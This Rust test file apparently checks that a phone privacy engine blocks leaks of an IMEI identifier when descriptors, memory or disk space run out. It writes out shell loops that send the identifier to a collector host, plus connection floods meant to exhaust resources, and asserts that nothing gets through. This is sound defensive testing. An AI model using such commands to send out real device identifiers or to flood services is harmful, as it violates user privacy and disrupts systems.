//! Nothing leaks when the engine lacks what it needs.

use super::phone::Phone;
use super::{AFTER, NO_IDENTIFIERS, Scene, document, imei, open};
use crate::capture::showing;
use crate::servers::COLLECTOR;
use crate::world::{Way, World, gasket};

/// Where the crowd goes.
const SERVER: &str = "203.0.113.11:7007";

/// Sends the identifier from many sockets, one datagram each.
fn many_leaks() -> String {
    let leak = document(&imei());
    format!("for n in 1 2 3 4 5 6 7 8 9; do \"$0\" mark {COLLECTOR}:700$n '{leak}'; done")
}

fn straight(scene: &Scene<'_>) {
    let line = many_leaks();
    scene.arrives(
        Way::Direct,
        &["sh", "-c", &line, World::PEER],
        imei().as_bytes(),
    );
}

#[test]
fn leak_when_descriptors_run_out() {
    let Some(world) = open("leak_when_descriptors_run_out", &[]) else {
        return;
    };
    world.serve(&[World::PEER, "serve-silent", SERVER], "ready");
    let scene = Scene::new(&world);
    straight(&scene);
    let phone = Phone::start(&world, NO_IDENTIFIERS);
    let engine = phone.engine();
    // Room for five sockets more, for a crowd of a hundred.
    engine.limit(&format!("--nofile={}:", engine.fds() + 5));
    let line = format!("\"$0\" crowd {SERVER} 100 & {}; wait", many_leaks());
    let (packets, ended) = scene.watch_command(&mut phone.app(&["sh", "-c", &line, World::PEER]));
    let seen = showing(&packets, imei().as_bytes());
    assert!(seen.is_empty(), "{seen:#?}");
    let crowd: u32 = ended.text().trim().parse().expect("a number");
    assert!(crowd > 0, "nothing passes: {ended:?}");
    // Whoever asks now is served again, once the crowd is gone.
    scene.watch_command(&mut phone.app(&["python3", "leak.py", AFTER, "nothing", COLLECTOR, "-"]));
    let words = ["python3", "leak.py", AFTER, "datagram", COLLECTOR, "hello"];
    let (packets, ended) = scene.watch_command(&mut phone.app(&words));
    assert!(!showing(&packets, b"hello").is_empty(), "{ended:?}");
}

/// An engine that gets no more memory may end; then nothing passes any more, around it neither.
#[test]
fn leak_when_memory_runs_out() {
    let Some(world) = open("leak_when_memory_runs_out", &[]) else {
        return;
    };
    world.serve(&[World::PEER, "serve-silent", SERVER], "ready");
    let scene = Scene::new(&world);
    straight(&scene);
    let phone = Phone::start(&world, NO_IDENTIFIERS);
    let engine = phone.engine();
    let crowd = [World::PEER, "crowd", SERVER, "50"];
    let (_, ended) = scene.watch_command(&mut phone.app(&crowd));
    assert_eq!(ended.text(), "50\n", "control: {ended:?}");
    let cap = (engine.addressed_kb() + 256) * 1024;
    engine.limit(&format!("--as={cap}:"));
    let line = format!("\"$0\" crowd {SERVER} 500; {}", many_leaks());
    let (packets, ended) = scene.watch_command(&mut phone.app(&["sh", "-c", &line, World::PEER]));
    let seen = showing(&packets, imei().as_bytes());
    assert!(seen.is_empty(), "{seen:#?}");
    println!("the engine ended: {}; {}", engine.is_gone(), ended.text());
}

/// A disk without room: it is said once, in plain words, and verdicts go on.
#[test]
fn leak_when_the_disk_is_full() {
    let Some(world) = open("leak_when_the_disk_is_full", &[]) else {
        return;
    };
    let scene = Scene::new(&world);
    scene.configure(NO_IDENTIFIERS);
    straight(&scene);
    world.run_ok(&["mkdir", "small"]);
    world.run_ok(&["mount", "-t", "tmpfs", "-o", "size=4k", "none", "small"]);
    let line = format!(
        "{}; python3 leak.py {AFTER} datagram {COLLECTOR} 'hello from a full disk'",
        [many_leaks(), many_leaks()].join("; ")
    );
    let gasket = [
        gasket(),
        "run",
        "--config",
        "config.json",
        "--events",
        "small/events",
        "--",
    ];
    let words = [&gasket[..], &["sh", "-c", &line, World::PEER]].concat();
    let (packets, ended) = scene.watch(Way::Direct, &words);
    assert!(ended.status.success(), "{ended:?}");
    let seen = showing(&packets, imei().as_bytes());
    assert!(seen.is_empty(), "{seen:#?}");
    assert!(
        !showing(&packets, b"hello from a full disk").is_empty(),
        "{ended:?}"
    );
    let said = ended
        .stderr
        .lines()
        .filter(|line| line.contains("no longer written to the file"));
    assert_eq!(said.count(), 1, "{}", ended.stderr);
}
